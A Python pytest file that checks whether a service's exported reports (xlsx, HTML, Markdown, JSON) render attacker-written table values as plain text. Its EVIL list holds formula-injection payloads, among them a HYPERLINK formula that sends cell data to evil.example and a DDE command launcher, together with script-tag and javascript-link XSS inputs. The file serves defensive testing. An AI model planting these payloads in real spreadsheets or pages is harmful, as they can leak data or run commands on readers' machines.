"""What a table holds reaches no reader of a report as a formula, a link or a script."""

from __future__ import annotations

import io
import json

import openpyxl
import pytest

from ..conftest import WRONG, table

EVIL = (
    '=HYPERLINK("http://evil.example/"&A1)',
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "http://evil.example/",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
)


def quoted(cell):
    return '"' + cell.replace('"', '""') + '"'


@pytest.fixture
def check(service):
    """A check of a table whose names and ids are what an attacker would write."""
    rows = [
        WRONG.replace("A-2", quoted(f"{evil}{number}")).replace("甲水泥", quoted(evil))
        for number, evil in enumerate(EVIL)
    ]
    answer = service.upload(table(*rows), "=1+1.csv").get_json()
    assert {finding["check"] for finding in answer["report"]["findings"]} >= {"T-02", "T-10"}
    return answer["id"]


def report(service, check, suffix):
    answer = service.client.get(f"/api/v1/checks/{check}/report.{suffix}?lang=en")
    assert answer.status_code == 200
    return answer.get_data()


def test_a_workbook_holds_them_as_text(service, check):
    book = openpyxl.load_workbook(io.BytesIO(report(service, check, "xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.value for cell in cells if cell.value in EVIL} == set(EVIL)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    evil = [cell.hyperlink.target or "" for cell in cells if cell.hyperlink]
    assert [target for target in evil if "evil" in target] == []


def test_a_page_shows_them_and_runs_none(service, check):
    pages = [report(service, check, "html"), service.client.get(f"/en/checks/{check}").get_data()]
    for page in pages:
        assert b"<script>alert" not in page
        assert b"&lt;script&gt;alert(1)" in page
        assert b'href="http://evil' not in page
        assert b'href="javascript' not in page


def test_markdown_has_no_link_and_no_tag_of_theirs(service, check):
    text = report(service, check, "md").decode()
    assert "<script>" not in text
    assert "[click](" not in text


def test_json_gives_them_letter_by_letter(service, check):
    found = json.loads(report(service, check, "json"))
    rows = [row for finding in found["findings"] for row in finding["rows"]]
    given = {row[name] for row in rows for name in ("unit_id", "found") if name in row}
    assert {f"{evil}{number}" for number, evil in enumerate(EVIL)} <= given
